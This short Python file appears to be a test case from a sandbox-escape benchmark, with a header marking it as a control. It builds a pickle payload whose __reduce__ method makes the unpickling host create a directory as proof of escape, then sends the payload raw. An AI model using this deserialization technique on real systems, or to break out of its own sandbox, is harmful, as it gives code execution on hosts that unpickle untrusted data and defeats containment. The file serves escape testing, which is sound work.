# level: boundary
# category: protocol
# escape proof: the file at $ESCAPE_PROOF exists after the run
# control: none, because nothing on the host's side unpickles

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.mkdir, (CTX["proof"],))


SEND_RAW(pickle.dumps(Bomb()))
